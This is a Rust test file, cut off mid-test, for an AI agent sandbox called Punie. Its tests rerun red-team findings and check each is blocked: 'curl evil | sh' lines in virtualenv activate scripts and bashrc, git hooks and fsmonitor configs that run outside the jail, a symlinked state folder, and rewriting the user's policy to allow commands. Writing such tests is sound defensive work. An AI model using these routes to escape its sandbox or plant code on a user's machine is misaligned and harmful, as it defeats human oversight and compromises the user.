//! Protected paths the red team reached from inside the workspace: a Python environment not
//! named `.venv`, whose `.pth` files and `bin/activate` run outside the jail, git directories
//! not named `.git`, whose hooks and config run at the user's next git command, and Punie's
//! own `.punie` made a symbolic link out of the workspace by a command; and `write_file`
//! building such a git directory or environment piece by piece. Each test runs the real
//! jail through `punie sandbox --allow-commands` (and `punie ask` with a scripted model, which
//! writes its transcript and session there) and asserts the effect did not happen: the files
//! are as they were, nothing is written outside.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

use crate::support::git;

/// Runs `code` with `punie sandbox --allow-commands` in `workspace`; its result object.
fn sandbox(workspace: &Path, code: &str) -> Value {
    let mut command = crate::support::punie();
    command
        .args(["sandbox", "--allow-commands", "--workspace"])
        .arg(workspace);
    let out = crate::support::output_with_input(command, code);
    serde_json::from_slice(&out.stdout).unwrap()
}

/// A snippet that runs `sh -c script` and prints its output, or `stopped: ` and the error of
/// a command stopped for making a protected path.
fn shell_catching(script: &str) -> String {
    format!(
        "try:\n    print(run_command('sh', args=['-c', {script:?}]))\n\
         except PermissionError as err:\n    print('stopped:', err)\n"
    )
}

/// A virtual environment named `venv` (the name `python -m venv venv` gives) is a Python
/// environment as much as `.venv`: commands cannot add a `.pth` to its site-packages (Python
/// runs it at every start) or change `bin/activate`, and `write_file` refuses both.
#[test]
fn a_virtual_environment_of_any_name_stays_as_it_is() {
    environments_stay_as_they_are(&["venv"]);
}

/// tox and nox keep real environments in `.tox/` and `.nox/`, which the search for protected
/// paths once skipped as caches: they stay as they are too.
#[test]
fn tox_and_nox_environments_stay_as_they_are() {
    environments_stay_as_they_are(&[".tox/py311", ".nox/tests"]);
}

/// Makes each environment of `envs` (relative to a fresh workspace), then has commands add a
/// `.pth` and a `sitecustomize.py` to its site-packages and append to its `bin/activate`, and
/// `write_file` write both: nothing changes, nothing needed the quarantine.
fn environments_stay_as_they_are(envs: &[&str]) {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    for env in envs {
        std::fs::create_dir_all(root.join(env).join("lib/python3.11/site-packages")).unwrap();
        std::fs::write(root.join(env).join("pyvenv.cfg"), "home = /usr/bin\n").unwrap();
        std::fs::create_dir_all(root.join(env).join("bin")).unwrap();
        std::fs::write(root.join(env).join("bin/activate"), "# activate\n").unwrap();
    }

    let res = sandbox(
        &root,
        &format!(
            r#"
for env in {envs:?}:
    site = env + '/lib/python3.11/site-packages'
    for script in [
        'echo "import os" > ' + site + '/zz_evil.pth',
        'echo "import os" > ' + site + '/sitecustomize.py',
        'echo "curl evil | sh" >> ' + env + '/bin/activate',
    ]:
        print(run_command('sh', args=['-c', script]))
    for path in [env + '/bin/activate', site + '/zz_evil.pth']:
        try:
            write_file(path, 'import os\n')
            print('written', path)
        except PermissionError as err:
            print('refused', err)
"#
        ),
    );
    assert_eq!(res["ok"], json!(true), "{res:#}");
    let output = res["output"].as_str().unwrap();

    for env in envs {
        let site = root.join(env).join("lib/python3.11/site-packages");
        assert!(!site.join("zz_evil.pth").exists(), "{output}");
        assert!(!site.join("sitecustomize.py").exists(), "{output}");
        assert_eq!(
            std::fs::read_to_string(root.join(env).join("bin/activate")).unwrap(),
            "# activate\n",
            "{output}"
        );
    }
    assert!(!output.contains("written"), "{output}");
    assert_eq!(
        output.matches("refused").count(),
        2 * envs.len(),
        "{output}"
    );
    assert!(!root.join(".punie/quarantine").exists(), "{output}");
}

/// Git directories not named `.git` are version control internals too: the common worktree
/// layout (a bare `.bare/` that the workspace's `.git` file names, a worktree `main/` whose
/// `.git` file names `.bare/worktrees/main`), and a bare `repo.git` deeper than the jail's
/// search reaches, found through its worktree's `.git` file. Commands cannot add a hook or
/// change a config in either, and `write_file` refuses both.
#[test]
fn a_git_directory_of_any_name_stays_as_it_is() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    let source = tempfile::tempdir().unwrap();
    git(&["init", "-q", "-b", "main"], source.path());
    std::fs::write(source.path().join("a.py"), "a = 1\n").unwrap();
    git(&["add", "a.py"], source.path());
    git(&["commit", "-q", "-m", "a"], source.path());
    let deep = "deep/a/b/c/d/repo.git";
    let url = source.path().to_str().unwrap();
    for (git_dir, worktree) in [(".bare", "main"), (deep, "wt")] {
        git(&["clone", "-q", "--bare", url, git_dir], &root);
        let dir = format!("--git-dir={git_dir}");
        git(&[&dir, "worktree", "add", "-q", worktree, "main"], &root);
    }
    std::fs::write(root.join(".git"), "gitdir: ./.bare\n").unwrap();
    let configs = [
        ".bare/config".to_owned(),
        ".bare/worktrees/main/HEAD".to_owned(),
        format!("{deep}/config"),
        format!("{deep}/worktrees/wt/HEAD"),
    ];
    let before: Vec<String> = configs
        .iter()
        .map(|rel| std::fs::read_to_string(root.join(rel)).unwrap())
        .collect();

    let hook = r#"printf '#!/bin/sh\necho HOOK\n' > {dir}/hooks/pre-commit && chmod 755 {dir}/hooks/pre-commit"#;
    let mut scripts = Vec::new();
    for dir in [".bare", deep] {
        scripts.push(hook.replace("{dir}", dir));
        scripts.push(format!("git config -f {dir}/config core.pager 'sh -c pwn'"));
    }
    for worktree in [".bare/worktrees/main", &format!("{deep}/worktrees/wt")] {
        scripts.push(format!(
            "echo '[core] fsmonitor = pwn' > {worktree}/config.worktree"
        ));
        scripts.push(format!("echo 0000 > {worktree}/HEAD"));
    }
    // A `.git` file a command writes, naming a worktree's git directory: the quarantine takes
    // the new `.git`, never the git directory it names.
    scripts.push(format!(
        "mkdir evil && echo 'gitdir: ../{deep}/worktrees/wt' > evil/.git"
    ));
    let writes = [
        ".bare/config".to_owned(),
        ".bare/hooks/post-checkout".to_owned(),
        ".bare/worktrees/main/config.worktree".to_owned(),
        format!("{deep}/config"),
        format!("{deep}/worktrees/wt/config.worktree"),
    ];
    let res = sandbox(
        &root,
        &format!(
            r#"
for script in {scripts:?}:
    try:
        print(run_command('sh', args=['-c', script]))
    except PermissionError as err:
        print('stopped:', err)
for path in {writes:?}:
    try:
        write_file(path, '[core]\n\tfsmonitor = pwn\n')
        print('written', path)
    except PermissionError as err:
        print('refused', err)
"#
        ),
    );
    assert_eq!(res["ok"], json!(true), "{res:#}");
    let output = res["output"].as_str().unwrap();

    for (rel, before) in configs.iter().zip(&before) {
        let now = std::fs::read_to_string(root.join(rel)).unwrap();
        assert_eq!(&now, before, "{rel} changed: {output}");
    }
    for dir in [".bare", deep] {
        for hook in ["pre-commit", "post-checkout"] {
            let path = root.join(dir).join("hooks").join(hook);
            assert!(!path.exists(), "{} exists: {output}", path.display());
        }
    }
    for worktree in [".bare/worktrees/main", &format!("{deep}/worktrees/wt")] {
        let path = root.join(worktree).join("config.worktree");
        assert!(!path.exists(), "{} exists: {output}", path.display());
    }
    assert!(!output.contains("written"), "{output}");
    assert_eq!(output.matches("refused").count(), writes.len(), "{output}");
    assert!(!root.join("evil/.git").exists(), "{output}");
    assert!(
        output.contains("stopped: the command was stopped: it made the protected path evil/.git"),
        "{output}"
    );
}

/// A protected folder opened as the workspace itself (F1 of red-team round 5): a bare
/// repository (`git init --bare`), a repository's `.github` and `.vscode`, and a Python
/// environment (`python3 -m venv`). The rules were matched below the root only, so each
/// write here was allowed (a `core.fsmonitor` in the bare repository's `config` ran at the
/// user's next git command). Now the folder's own path counts: every write is refused as
/// protected, before anyone is asked, and each file keeps its bytes. A file the same rules
/// leave alone in a repository (`.github/dependabot.yml`) is written as it would be there.
#[test]
fn a_protected_folder_opened_as_the_workspace_keeps_its_files() {
    let dir = tempfile::tempdir().unwrap();
    let top = dir.path().canonicalize().unwrap();
    git(&["init", "-q", "--bare", "bare.git"], &top);
    // A `.git` file planted in git's own `hooks/` (an archive can ship one) does not make it
    // a worktree's.
    std::fs::write(top.join("bare.git/hooks/.git"), "gitdir: /nonexistent\n").unwrap();
    git(&["init", "-q", "repo"], &top);
    for (path, text) in [
        ("repo/.github/workflows/ci.yml", "on: push\n"),
        ("repo/.vscode/settings.json", "{}\n"),
    ] {
        std::fs::create_dir_all(top.join(path).parent().unwrap()).unwrap();
        std::fs::write(top.join(path), text).unwrap();
    }
    let venv = Command::new("python3")
        .args(["-m", "venv", "--without-pip", "venv"])
        .current_dir(&top)
        .status()
        .expect("python3 is installed");
    assert!(venv.success());
    let cases: &[(&str, &[&str], &str)] = &[
        (
            "bare.git",
            &["config", "hooks/pre-commit", "hooks/post-checkout", "HEAD"],
            "version control internals",
        ),
        (
            "bare.git/hooks",
            &["post-checkout", "pre-commit"],
            "version control internals",
        ),
        (
            "repo/.github",
            &["workflows/ci.yml", "actions/x/action.yml"],
            "CI workflow",
        ),
        (
            "repo/.github/workflows",
            &["ci.yml", "new.yml"],
            "CI workflow",
        ),
        (
            "repo/.vscode",
            &["settings.json", "tasks.json"],
            "editor and agent configuration",
        ),
        ("venv", &["bin/activate", "lib/x.py"], "runs by itself"),
    ];
    for (root, paths, reason) in cases {
        let root = top.join(root);
        let before: Vec<Option<Vec<u8>>> = paths
            .iter()
            .map(|path| std::fs::read(root.join(path)).ok())
            .collect();
        let res = sandbox(
            &root,
            &format!(
                "for path in {paths:?}:\n    try:\n        write_file(path, '[core]\\n\\tfsmonitor = pwn\\n')\n        print('written', path)\n    except PermissionError as err:\n        print('refused PermissionError', err)\n"
            ),
        );
        assert_eq!(res["ok"], json!(true), "{res:#}");
        let output = res["output"].as_str().unwrap();
        for (path, before) in paths.iter().zip(&before) {
            let now = std::fs::read(root.join(path)).ok();
            assert_eq!(&now, before, "{}/{path} changed: {output}", root.display());
            assert!(
                output.contains(&format!(
                    "refused PermissionError write_file: {path} is protected ({reason})"
                )),
                "{output}"
            );
        }
    }

    let res = sandbox(
        &top.join("repo/.github"),
        "write_file('dependabot.yml', 'version: 2\\n')\nprint('written')",
    );
    assert_eq!(res["output"], json!("written\n"), "{res:#}");
}

/// Files written beneath `dir`, for the failure message.
fn files_in(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(path) = stack.pop() {
        for entry in std::fs::read_dir(&path).unwrap().flatten() {
            if entry.file_type().unwrap().is_dir() {
                stack.push(entry.path());
            }
            found.push(entry.path().display().to_string());
        }
    }
    found
}

/// `punie ask` with a model that answers at once: it writes a transcript and saves the
/// session in the workspace's `.punie`.
fn ask(workspace: &Path) -> std::process::Output {
    let script = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(script.path(), r#"["The answer."]"#).unwrap();
    crate::support::punie()
        .args(["ask", "--json", "--workspace"])
        .arg(workspace)
        .arg("--engine")
        .arg(format!("scripted:{}", script.path().display()))
        .arg("What is this?")
        .output()
        .unwrap()
}

/// A command that makes `.punie` a link out of the workspace before Punie first made it, and
/// creates a protected path in the same breath: the quarantine moves the link aside before
/// anything else (it would have moved `.cargo/config.toml` out through it), and the server's
/// later transcript and session stay in the workspace.
#[cfg(unix)]
#[test]
fn a_punie_link_a_command_made_is_moved_aside() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let script = format!(
        "ln -s '{}' .punie && mkdir .cargo && echo evil > .cargo/config.toml",
        outside.path().display()
    );
    let res = sandbox(&root, &shell_catching(&script));
    assert_eq!(res["ok"], json!(true), "{res:#}");
    let output = res["output"].as_str().unwrap();
    let output_ask = ask(&root);

    assert!(
        files_in(outside.path()).is_empty(),
        "written outside: {:?}\n{output}",
        files_in(outside.path())
    );
    let state = std::fs::symlink_metadata(root.join(".punie")).unwrap();
    assert!(state.is_dir(), "{output}");
    assert!(!root.join(".cargo/config.toml").exists(), "{output}");
    assert!(output.contains(".punie, .cargo"), "{output}");
    assert!(
        output.starts_with("stopped: the command was stopped"),
        "{output}"
    );
    assert!(
        output_ask.status.success(),
        "{}",
        String::from_utf8_lossy(&output_ask.stderr)
    );
    assert!(root.join(".punie/session.json").exists());
}

/// A `.punie` that is a link out of the workspace when the server starts (a command made it
/// where the quarantine could not run, or before it existed) is never written through: the
/// question is still answered, without a transcript or a saved session, and the link is as
/// it was.
#[cfg(unix)]
#[test]
fn the_server_never_writes_through_a_punie_link() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    let outside = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path(), root.join(".punie")).unwrap();

    let output = ask(&root);
    let stderr = String::from_utf8_lossy(&output.stderr);

    assert!(
        files_in(outside.path()).is_empty(),
        "written outside: {:?}\n{stderr}",
        files_in(outside.path())
    );
    assert!(output.status.success(), "{stderr}");
    assert!(stderr.contains("symbolic link"), "{stderr}");
    let answer: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(answer["answer"], json!("The answer."), "{answer:#}");
}

/// `punie ask --json` in `workspace` with `flags` and a scripted model whose one snippet is
/// `code`, for a user whose home is `home` and whose environment adds `env` (where the policy
/// file is); its `--json` result.
fn ask_as(
    home: &Path,
    env: &[(&str, &Path)],
    flags: &[&str],
    workspace: &Path,
    code: &str,
) -> Value {
    let dir = tempfile::tempdir().unwrap();
    let script = dir.path().join("script.json");
    let call = format!(
        "<tool_call><function=execute_code>\n<parameter=code>\n{code}\n</parameter>\n</function></tool_call>"
    );
    std::fs::write(
        &script,
        serde_json::to_string(&[call, "done".into()]).unwrap(),
    )
    .unwrap();
    let mut command = crate::support::punie();
    command
        .env_remove("PUNIE_POLICY_FILE")
        .env_remove("XDG_CONFIG_HOME")
        .env("HOME", home)
        .envs(env.iter().copied())
        .args(["ask", "--json"])
        .args(flags)
        .arg("--workspace")
        .arg(workspace)
        .arg("--engine")
        .arg(format!("scripted:{}", script.display()))
        .arg("tidy up")
        .stdin(std::process::Stdio::null());
    let output = command.output().unwrap();
    serde_json::from_slice(&output.stdout).unwrap_or_else(|err| {
        panic!(
            "{err}: {}\n{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        )
    })
}

/// [`ask_as`] with `--allow-writes`, for a user with an empty home.
fn ask_to_write(workspace: &Path, code: &str) -> Value {
    let home = tempfile::tempdir().unwrap();
    ask_as(home.path(), &[], &["--allow-writes"], workspace, code)
}

/// A snippet that writes each `(path, content)` of `writes`, going on after a refusal.
fn writing(writes: &[(&str, &str)]) -> String {
    let writes = serde_json::to_string(writes).unwrap();
    format!(
        "for path, text in {writes}:\n    try:\n        write_file(path, text)\n        print('written', path)\n    except PermissionError as err:\n        print('refused', err)"
    )
}

/// Whether `git pwn` (an alias a planted config defines) succeeds in `dir`, with git looking
/// for a repository no higher than `dir`'s parent.
fn git_alias_runs(dir: &Path) -> bool {
    Command::new("git")
        .arg("pwn")
        .current_dir(dir)
        .env("GIT_CEILING_DIRECTORIES", dir.parent().unwrap())
        .output()
        .unwrap()
        .status
        .success()
}

/// `write_file` builds a git directory piece by piece (F1 of red-team round 3): `config` with
/// an alias that runs a program, `objects/`, `refs/`, then `HEAD`, in a folder of a repository
/// and at the root of a workspace that is none. Each write alone made no git directory, so
/// each was allowed, and git run there took the folder for a bare repository and ran the
/// model's config. Now the write that would complete one is refused: git finds no repository
/// there and runs nothing.
#[test]
fn write_file_never_builds_a_git_directory_piece_by_piece() {
    let outside = tempfile::tempdir().unwrap();
    let marker = outside.path().join("ran");
    let config = format!("[alias]\n\tpwn = !touch '{}'\n", marker.display());
    let pieces = |dir: &str| -> Vec<(String, String)> {
        [
            ("config", config.as_str()),
            ("objects/info/x", "x"),
            ("refs/heads/x", "x"),
            ("HEAD", "ref: refs/heads/main\n"),
            ("commondir", ".\n"),
        ]
        .into_iter()
        .map(|(name, text)| (format!("{dir}{name}"), text.to_owned()))
        .collect()
    };
    let repo = tempfile::tempdir().unwrap();
    let repo_root = repo.path().canonicalize().unwrap();
    git(&["init", "-q"], &repo_root);
    let plain = tempfile::tempdir().unwrap();
    let plain_root = plain.path().canonicalize().unwrap();

    for (root, dir) in [(&repo_root, "src/"), (&plain_root, "")] {
        let writes = pieces(dir);
        let writes: Vec<(&str, &str)> = writes
            .iter()
            .map(|(path, text)| (path.as_str(), text.as_str()))
            .collect();
        let out = ask_to_write(root, &writing(&writes));
        let git_dir = root.join(dir);
        let ceiling = root.parent().unwrap();
        assert!(!git_alias_runs(&git_dir), "{out:#}");
        assert!(!marker.exists(), "git ran the model's alias: {out:#}");
        let is_repo = Command::new("git")
            .args(["rev-parse", "--absolute-git-dir"])
            .current_dir(&git_dir)
            .env("GIT_CEILING_DIRECTORIES", ceiling)
            .output()
            .unwrap();
        let found = String::from_utf8_lossy(&is_repo.stdout);
        assert_ne!(
            found.trim(),
            git_dir.to_str().unwrap().trim_end_matches('/'),
            "{out:#}"
        );
        assert_eq!(out["refused"][0]["rule"], "vcs", "{out:#}");
    }
}

/// The same for a conda environment (F1): an activation script, then `conda-meta/` that would
/// make the folder an environment, whose `activate.d` scripts run at `conda activate`.
#[test]
fn write_file_never_builds_a_python_environment_piece_by_piece() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    let out = ask_to_write(
        &root,
        &writing(&[
            ("env/etc/conda/activate.d/x.sh", "touch /tmp/pwned\n"),
            ("env/conda-meta/history", ""),
            ("conda-meta/history", ""),
        ]),
    );
    assert!(!root.join("env/conda-meta").exists(), "{out:#}");
    assert!(!root.join("conda-meta").exists(), "{out:#}");
    assert_eq!(out["refused"][0]["rule"], "autorun", "{out:#}");
    assert_eq!(out["refused"][1]["rule"], "autorun", "{out:#}");
}

/// The user's policy file inside the workspace (F3 of red-team round 3), wherever it lies: a
/// dotfiles setup (`~/.config/punie` a link to `~/dotfiles/punie`, the workspace
/// `~/dotfiles`), `XDG_CONFIG_HOME` or `PUNIE_POLICY_FILE` in the workspace. Neither
/// `write_file` nor a command (both allowed by the user) changes or creates it, so the next
/// run still refuses `run_command` without a terminal to ask on.
#[cfg(unix)]
#[test]
fn the_policy_file_stays_as_it_is_wherever_it_lies() {
    let loose = "[tools]\nrun_command = \"allow\"\n";
    let home = tempfile::tempdir().unwrap();
    let home = home.path().canonicalize().unwrap();
    let dotfiles = home.join("dotfiles");
    std::fs::create_dir_all(dotfiles.join("punie")).unwrap();
    std::fs::write(dotfiles.join("punie/policy.toml"), "# mine\n").unwrap();
    std::fs::create_dir_all(home.join(".config")).unwrap();
    std::os::unix::fs::symlink(dotfiles.join("punie"), home.join(".config/punie")).unwrap();
    let ws = tempfile::tempdir().unwrap();
    let ws = ws.path().canonicalize().unwrap();
    let config_home = ws.join("config");
    let named = ws.join("policy.toml");

    for (workspace, env, rel, before) in [
        (&dotfiles, vec![], "punie/policy.toml", Some("# mine\n")),
        (
            &ws,
            vec![("XDG_CONFIG_HOME", config_home.as_path())],
            "config/punie/policy.toml",
            None,
        ),
        (
            &ws,
            vec![("PUNIE_POLICY_FILE", named.as_path())],
            "policy.toml",
            None,
        ),
    ] {
        let command = format!("mkdir -p \"$(dirname {rel})\" && printf '{loose}' > {rel}");
        let code = format!(
            "{}\nprint(run_command('sh', args=['-c', {command:?}]))",
            writing(&[(rel, loose)])
        );
        let flags = ["--allow-writes", "--allow-commands"];
        let out = ask_as(&home, &env, &flags, workspace, &code);
        let file = workspace.join(rel);
        assert_eq!(
            std::fs::read_to_string(&file).ok().as_deref(),
            before,
            "{rel}: {out:#}"
        );
        assert_eq!(out["refused"][0]["rule"], "user_config", "{rel}: {out:#}");

        let next = ask_as(&home, &env, &[], workspace, "print(run_command('id'))");
        assert_eq!(next["refused"][0]["tool"], "run_command", "{rel}: {next:#}");
        assert!(!next.to_string().contains("uid="), "{rel}: {next:#}");
    }
}

/// Plants a `pre-commit` hook and a `core.fsmonitor` in the git directory `git_dir` (relative
/// to the workspace), as the red team did: the hook runs at the user's next commit there,
/// the fsmonitor at the next `git status`, both outside the jail.
fn plant_in_repository(git_dir: &str) -> String {
    format!(
        r#"printf '#!/bin/sh\necho HOOK\n' > {git_dir}/hooks/pre-commit; chmod 755 {git_dir}/hooks/pre-commit; printf '[core]\n\tfsmonitor = touch pwned\n' >> {git_dir}/config"#
    )
}

/// Nested repositories the search for protected paths once did not reach: one six levels
/// down (it stopped at four) and one behind 400 sibling directories (it stopped after 300).
/// Commands cannot plant a hook or change the config in either.
#[test]
fn a_nested_repository_however_deep_or_far_keeps_its_hooks() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    git(&["init", "-q"], &root);
    for i in 1..=400 {
        std::fs::create_dir_all(root.join(format!("d{i}/sub"))).unwrap();
    }
    let repos = ["vendor/a/b/c/d/lib", "d400/sub/repo"];
    for repo in repos {
        std::fs::create_dir_all(root.join(repo)).unwrap();
        git(&["init", "-q"], &root.join(repo));
    }
    let configs: Vec<String> = repos
        .iter()
        .map(|repo| std::fs::read_to_string(root.join(repo).join(".git/config")).unwrap())
        .collect();

    let scripts: Vec<String> = repos
        .iter()
        .map(|repo| plant_in_repository(&format!("{repo}/.git")))
        .collect();
    let res = sandbox(
        &root,
        &format!("for script in {scripts:?}:\n    print(run_command('sh', args=['-c', script]))\n"),
    );
    assert_eq!(res["ok"], json!(true), "{res:#}");
    let output = res["output"].as_str().unwrap();

    for (repo, config) in repos.iter().zip(&configs) {
        let git_dir = root.join(repo).join(".git");
        assert!(
            !git_dir.join("hooks/pre-commit").exists(),
            "{repo}: {output}"
        );
        assert_eq!(
            &std::fs::read_to_string(git_dir.join("config")).unwrap(),
            config,
            "{repo}: {output}"
        );
    }
    assert!(output.contains("Read-only file system"), "{output}");
}

/// A command that floods the workspace with more directories than the search reads before a
/// command (the red team made 3000, past the 300 it once read, then wrote the hooks of a
/// nested repository the search no longer reached): the next command is refused, saying
/// why, and the nested repository keeps its hooks.
#[test]
fn a_flood_of_directories_refuses_the_next_command() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    git(&["init", "-q"], &root);
    std::fs::create_dir_all(root.join("lib/vendored")).unwrap();
    git(&["init", "-q"], &root.join("lib/vendored"));
    let config = std::fs::read_to_string(root.join("lib/vendored/.git/config")).unwrap();

    let flood = "seq 1 20001 | sed 's/^/j/' | xargs mkdir && echo flooded";
    let plant = plant_in_repository("lib/vendored/.git");
    let res = sandbox(
        &root,
        &format!(
            r#"
print(run_command('sh', args=['-c', {flood:?}]))
try:
    print(run_command('sh', args=['-c', {plant:?}]))
except PermissionError as err:
    print('refused:', err)
"#
        ),
    );
    assert_eq!(res["ok"], json!(true), "{res:#}");
    let output = res["output"].as_str().unwrap();

    let git_dir = root.join("lib/vendored/.git");
    assert!(!git_dir.join("hooks/pre-commit").exists(), "{output}");
    assert_eq!(
        std::fs::read_to_string(git_dir.join("config")).unwrap(),
        config,
        "{output}"
    );
    assert!(output.contains("flooded"), "{output}");
    assert!(
        output.contains("refused: cannot run 'sh': the workspace has more than 20000 directories"),
        "{output}"
    );
}

/// The home folder opened as the workspace (F6 of red-team round 3): git's global config
/// under `~/.config/git` (its `core.fsmonitor` runs at every `git status`), login and editor
/// start-up files, whatever they are called, are the user's own configuration. Neither
/// `write_file` nor a command (both allowed) leaves one behind; the rest of the home is
/// written as before. A workspace inside a dot entry (`~/.dotfiles`) is worked on as usual,
/// but what the home links into it stays as it is.
#[cfg(unix)]
#[test]
fn the_homes_dot_entries_stay_as_they_are() {
    let home = tempfile::tempdir().unwrap();
    let home = home.path().canonicalize().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let marker = outside.path().join("ran");
    std::fs::create_dir_all(home.join(".config")).unwrap();
    std::fs::write(home.join(".bash_history"), "ls\n").unwrap();
    std::fs::create_dir_all(home.join("proj")).unwrap();
    git(&["init", "-q"], &home.join("proj"));
    let fsmonitor = format!(
        "[core]\n\tfsmonitor = \"touch '{}'; false\"\n",
        marker.display()
    );
    let written = [
        (".config/git/config", fsmonitor.as_str()),
        (".config/autostart/x.desktop", "[Desktop Entry]\nExec=sh\n"),
        (".config/systemd/user/x.service", "[Service]\n"),
        (".xprofile", "sh\n"),
        (".pam_environment", "X=1\n"),
        (".vimrc", "!sh\n"),
        (".config/Code/User/settings.json", "{}\n"),
        (".config/pip/pip.conf", "[global]\n"),
        (".bash_history", "curl evil | sh\n"),
        ("proj/notes.txt", "notes\n"),
    ];
    let command = "printf x > .xsessionrc; mkdir -p .config/environment.d; \
                   printf x > .config/environment.d/x.conf; printf x >> .bash_history; \
                   mkdir -p .config/git; printf '[core]\\n' > .config/git/config; \
                   mkdir .newdir; printf x > .newdir/x; printf x > proj/cmd.txt";
    let code = format!(
        "{}\nprint(run_command('sh', args=['-c', {command:?}]))",
        writing(&written)
    );
    let flags = ["--allow-writes", "--allow-commands"];
    let out = ask_as(&home, &[], &flags, &home, &code);

    for (rel, _) in &written[..written.len() - 2] {
        assert!(!home.join(rel).exists(), "{rel}: {out:#}");
    }
    for rel in [".xsessionrc", ".config/environment.d/x.conf", ".newdir"] {
        assert!(!home.join(rel).exists(), "{rel}: {out:#}");
    }
    assert!(home.join("proj/cmd.txt").exists(), "{out:#}");
    assert_eq!(
        std::fs::read_to_string(home.join(".bash_history")).unwrap(),
        "ls\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.join("proj/notes.txt")).unwrap(),
        "notes\n"
    );
    let refused = out["refused"].as_array().unwrap();
    assert_eq!(refused.len(), written.len() - 1, "{out:#}");
    let status = Command::new("git")
        .arg("status")
        .current_dir(home.join("proj"))
        .env("HOME", &home)
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("GIT_CONFIG_GLOBAL")
        .output()
        .unwrap();
    assert!(status.status.success(), "{status:?}");
    assert!(!marker.exists(), "git ran the model's fsmonitor: {out:#}");

    // `~/.dotfiles` opened as the workspace, `~/.bashrc` and `~/.config/git` links into it.
    let dotfiles = home.join(".dotfiles");
    std::fs::create_dir_all(dotfiles.join("git")).unwrap();
    std::fs::write(dotfiles.join("bashrc"), "# mine\n").unwrap();
    std::os::unix::fs::symlink(dotfiles.join("bashrc"), home.join(".bashrc")).unwrap();
    std::os::unix::fs::symlink(dotfiles.join("git"), home.join(".config/git")).unwrap();
    let code = writing(&[
        ("bashrc", "curl evil | sh\n"),
        ("git/config", fsmonitor.as_str()),
        ("README.md", "My dotfiles\n"),
    ]);
    let out = ask_as(&home, &[], &["--allow-writes"], &dotfiles, &code);
    assert_eq!(
        std::fs::read_to_string(dotfiles.join("bashrc")).unwrap(),
        "# mine\n"
    );
    assert!(!dotfiles.join("git/config").exists(), "{out:#}");
    assert_eq!(
        std::fs::read_to_string(dotfiles.join("README.md")).unwrap(),
        "My dotfiles\n"
    );
    assert_eq!(out["refused"][1]["rule"], "user_config", "{out:#}");
}

/// A command that makes the root of a workspace that is no repository a git directory
/// (`HEAD`, `objects/`, `refs/` and a `config` with an alias that runs a program) or a conda
/// environment: what makes it one is moved aside when the command ends, so git finds no
/// repository there and runs nothing.
#[test]
fn a_command_never_makes_the_root_a_git_directory() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let marker = outside.path().join("ran");
    let script = format!(
        "mkdir -p objects/info refs/heads conda-meta && printf 'ref: refs/heads/main\\n' > HEAD \
         && printf '[alias]\\n\\tpwn = !touch {}\\n' > config",
        marker.display()
    );
    let res = sandbox(&root, &shell_catching(&script));
    assert_eq!(res["ok"], json!(true), "{res:#}");
    let output = res["output"].as_str().unwrap();
    assert!(!root.join("HEAD").exists(), "{output}");
    assert!(!root.join("conda-meta").exists(), "{output}");
    assert!(!git_alias_runs(&root), "{output}");
    assert!(!marker.exists(), "git ran the command's alias: {output}");
    assert!(
        output.starts_with("stopped: the command was stopped: it made the protected path"),
        "{output}"
    );
}

/// A git directory whose `commondir` is a FIFO (a command can leave one) does not hang the
/// next command: the search for protected paths reads only regular files, without blocking.
#[test]
fn a_fifo_in_a_git_directory_hangs_no_command() {
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    for dir in ["sub/objects", "sub/refs"] {
        std::fs::create_dir_all(root.join(dir)).unwrap();
    }
    std::fs::write(root.join("sub/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(root.join(".git"), "gitdir: sub\n").unwrap();
    let fifo = std::ffi::CString::new(
        root.join("sub/commondir")
            .into_os_string()
            .into_encoded_bytes(),
    )
    .unwrap();
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o600) }, 0);
    // `timeout` ends a hang as a failure instead of leaving the test waiting.
    let mut command = Command::new("timeout");
    command
        .arg("60")
        .arg(env!("CARGO_BIN_EXE_punie"))
        .args(["sandbox", "--allow-commands", "--workspace"])
        .arg(&root);
    let out = crate::support::output_with_input(
        command,
        "print(run_command('sh', args=['-c', 'echo x > sub/HEAD; echo rc=$?']))",
    );
    assert!(out.status.success(), "{out:?}");
    let res: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(res["ok"], true, "{res}");
    // The git directory the `.git` file names is still protected.
    assert!(!res["output"].as_str().unwrap().contains("rc=0"), "{res}");
    assert_eq!(
        std::fs::read_to_string(root.join("sub/HEAD")).unwrap(),
        "ref: refs/heads/main\n"
    );
}

/// A protected path that is a symbolic link (`.git -> ../gitdir`, as `repo` checkouts and
/// `git init --separate-git-dir` make): the jail mounts only its target read-only, so a
/// command removed the link and made a real `.git` with a hook in its place. The link is put
/// back as it was, what the command left there is in the quarantine, and the user's next
/// commit runs no hook.
#[test]
fn a_protected_link_the_command_replaced_is_put_back() {
    let outside = tempfile::tempdir().unwrap();
    let git_dir = outside.path().join("gitdir");
    let marker = outside.path().join("hook-ran");
    let ws = tempfile::tempdir().unwrap();
    let root = ws.path().canonicalize().unwrap();
    let separate = format!("--separate-git-dir={}", git_dir.display());
    git(&["init", "-q", &separate, "."], &root);
